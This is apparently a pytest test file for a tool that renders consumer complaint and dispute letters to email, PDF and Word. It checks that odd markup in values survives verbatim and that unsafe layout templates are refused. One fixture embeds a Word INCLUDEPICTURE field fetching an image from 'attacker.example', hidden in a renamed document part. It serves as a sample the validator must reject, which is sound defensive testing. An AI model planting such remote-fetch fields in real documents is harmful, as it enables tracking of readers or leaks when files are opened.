    '"Xiaoming Wang"': '"Xiaoming {{ Wang }} & <Co>"',
    '"Example Mobile Customer Care"': '"AT&T <Care> {% raw %}"',
    '"Example Mobile"': '"A&B <Mobile> {{ x }}"',
    '"Agent Lisa"': '"客服 Lisa <b>&amp; {{ 1 }}"',
    '"CS-12345"': '"CS-12345&<1>"',
    '"Chat agent Priya"': '"Chat agent Priya Lorem ipsum & <consectetur> 客服人員 {{ 95 }}"',
    '"Chat confirmed closure by email or letter; said the balance is not refundable."': f'"{LONG}"',
    '"CHAT-80122"': '"參考 <80122> & {#"',
    '"Example Bank"': '"Bank & <Trust> {{ card }}"',
    '"International calling add-on"': '"國際 & <add-on> {%"',
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Case:
    text = LATE.read_text(encoding="utf-8")
    for old, new in SUBSTITUTIONS.items():
        assert old in text
        text = text.replace(old, new)
    path = tmp_path_factory.mktemp("hostile") / "case.toml"
    path.write_text(text, encoding="utf-8")
    return load_case(path)


def docx_text(data: bytes) -> str:
    """Return the body text as a reader reads it: a no-break space as a space, no word joiners
    (the DOCX keeps phone numbers, dates and identifiers on one line with them)."""
    from letters.render.docx import READ_AS

    return "\n".join(p.text for p in Document(io.BytesIO(data)).paragraphs).translate(READ_AS)


def outputs(case: Case, kind: str, language: str) -> list[tuple[str, str, dict[str, str]]]:
    """Render every output of a kind; return (name, its text read back, what it must carry)."""
    letters = [render_letter(case, kind, language, DAY)]
    letters += [render_letter(case, k, language, DAY) for k in COMPANIONS.get(kind, ())]
    if language == "en":
        letters.append(render_letter(case, "explain", "zh-CN", DAY, explaining=kind))
    found = []
    for letter in letters:
        name = f"{letter.kind}.{letter.language}"
        if letter.recipient.email and not letter.sheet:
            draft = build_email(letter)
            message = message_from_bytes(draft.eml, policy=policy.default)
            shown = f"{message['Subject']}\n{message.get_body(('plain',)).get_content()}"  # type: ignore[union-attr]
            found.append(
                (f"{name}.eml", shown, required_values(letter, ("subject", *MESSAGE_PARTS)))
            )
            found.append((f"{name}.txt", draft.text, required_values(letter, MESSAGE_PARTS)))
        pdf = without_page_labels(pdf_text(render_pdf(letter, envelope=None).data))
        found.append((f"{name}.pdf", pdf, required_values(letter, PRINTED)))
        if not letter.sheet:
            found.append(
                (
                    f"{name}.docx",
                    docx_text(render_docx(letter)),
                    required_values(letter, PRINTED),
                )
            )
    return found


@pytest.mark.parametrize(
    ("kind", "language"),
    # Letters to the carrier come in Chinese too; the others go to readers of English only.
    [(k, lang) for k in KINDS for lang in ("en", "zh-TW") if lang == "en" or k in CARRIER_KINDS],
)
def test_every_output_of_every_kind_carries_every_value_its_template_printed(
    hostile: Case, kind: str, language: str
) -> None:
    for name, text, values in outputs(hostile, kind, language):
        missing = [key for key, value in values.items() if appears(value, text) < 0]
        assert not missing, f"{name} lacks {missing}"
        assert "&amp;amp;" not in text and "&lt;" not in text, name
    letter = render_letter(hostile, kind, language, DAY)
    printed = required_values(letter)
    hostile_keys = {"account.carrier", "holder.name_en" if language == "en" else "holder.name"}
    if kind in ("complaint", "follow-up"):
        hostile_keys |= {"events[1].party", "events[1].reference", "events[4].party"}
    if kind == "card-dispute":
        hostile_keys |= {"charges[2].description"}
    assert hostile_keys <= printed.keys(), sorted(printed)


def test_a_layout_that_loses_a_printed_value_fails_and_names_it(
    hostile: Case, tmp_path: Path
) -> None:
    # A layout template that changes what it prints: "A&B" would not arrive as written.
    data = DOCX.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        body = archive.read("word/document.xml").decode()
    assert "{{ item }}" in body
    tidy = body.replace("{{ item }}", '{{ item|replace("A", "a") }}')
    folder = tmp_path / "pack"
    (folder / "docx").mkdir(parents=True)
    (folder / "docx" / "en.docx").write_bytes(docx_with({"word/document.xml": tidy.encode()}))
    letter = render_letter(hostile, "complaint", "en", DAY)
    with pytest.raises(RenderError, match=r"^\.docx: .* does not appear verbatim"):
        render_docx(letter, template_dir=folder)


def test_a_template_that_mangles_a_value_it_printed_fails(tmp_path: Path) -> None:
    # `pad` prints the value; a second filter then changes it: the letter is not written.
    folder = pack(tmp_path, "{{ (account.carrier|pad)|replace('a', 'A') }} {{ holder.name }}")
    case = load_case(SAMPLES / "case-en.toml")
    case = replace(case, account=replace(case.account, carrier="Example Mobile"))
    with pytest.raises(LettersError, match=r"account\.carrier does not appear verbatim"):
        render_letter(case, "request", "en", DAY, folder)


def test_each_value_remembers_its_key() -> None:
    case = load_case(LATE)
    view = content.context(case, "complaint", "en", DAY)
    assert isinstance(view["events"][0].party, Leaf)
    assert view["events"][0].party._key == "events[1].party"
    assert view["holder_name"]._key == "holder.name_en"


# --- templates export, then use: end to end ------------------------------------------------------


def test_templates_export_then_kit_with_them(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    assert run("templates", "export", mine).exit_code == 0
    result = run("kit", LATE, "--templates", mine, "-o", tmp_path / "out", "--date", "2026-12-24")
    assert result.exit_code == 0, result.stderr
    names = {p.name for p in (tmp_path / "out").rglob("*")}
    assert {"request.en.eml", "request.en.pdf", "request.en.docx"} <= names


FIELD = (
    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
    b'"http://attacker.example/p.png" \\d</w:instrText></w:r></w:p>'
)


def renamed_main_part(field: bytes) -> bytes:
    """Return the built-in layout with its document part named word/document.dat: Word and
    python-docx find it through the relationships and content types, not by its name."""
    with zipfile.ZipFile(DOCX) as source:
        document = source.read("word/document.xml").replace(b"</w:p>", field, 1)
        types = source.read("[Content_Types].xml").replace(
            b'PartName="/word/document.xml"', b'PartName="/word/document.dat"'
        )
        package = source.read("_rels/.rels").replace(b"word/document.xml", b"word/document.dat")
        parts = source.read("word/_rels/document.xml.rels")
    return docx_with(
        {
            "word/document.xml": None,
            "word/_rels/document.xml.rels": None,
            "word/document.dat": document,
            "word/_rels/document.dat.rels": parts,
            "[Content_Types].xml": types,
            "_rels/.rels": package,
        }
    )


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (
            renamed_main_part(FIELD),
            "docx/en.docx: the part word/document.dat has a INCLUDEPICTURE field",
        ),
        (  # UTF-16, which the checks could not read: refused, whatever its name
            docx_with(
                {"word/footer1.xml": FOOTER.decode().replace("UTF-8", "UTF-16").encode("utf-16")}
            ),
            "docx/en.docx: the part word/footer1.xml is not in UTF-8, as Word writes it",
        ),
        (
            docx_with(
                {"word/footer1.xml": FOOTER.replace(b"encoding='UTF-8'", b"encoding='UTF-7'")}
            ),
            "docx/en.docx: the part word/footer1.xml is not in UTF-8, as Word writes it",
        ),
    ],
    ids=["a field in a part not named .xml", "UTF-16", "declared UTF-7"],
)
def test_a_docx_part_is_checked_by_what_it_holds_not_by_its_name(
    tmp_path: Path, data: bytes, message: str
) -> None:
    result = letter_with_layout(tmp_path, data)
    assert result.exit_code == 2, result.stderr
    assert result.stderr.startswith(f"Error: {message}"), result.stderr
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    "picture",
    [b"\x01\x00\x00\x00" + bytes(80), b"II*\x00" + bytes(80)],  # an EMF's and a TIFF's start
    ids=["EMF", "TIFF"],
)
def test_a_picture_that_starts_with_a_zero_is_no_xml_part(tmp_path: Path, picture: bytes) -> None:
    result = letter_with_layout(tmp_path, docx_with({"word/media/logo.bin": picture}))
    assert result.exit_code == 0, result.stderr


def test_a_plain_layout_with_its_document_part_renamed_still_works(tmp_path: Path) -> None:
    # The check reads what a part holds: a harmless renamed part is still a layout.
    result = letter_with_layout(tmp_path, renamed_main_part(b"</w:p>"))
    assert result.exit_code == 0, result.stderr
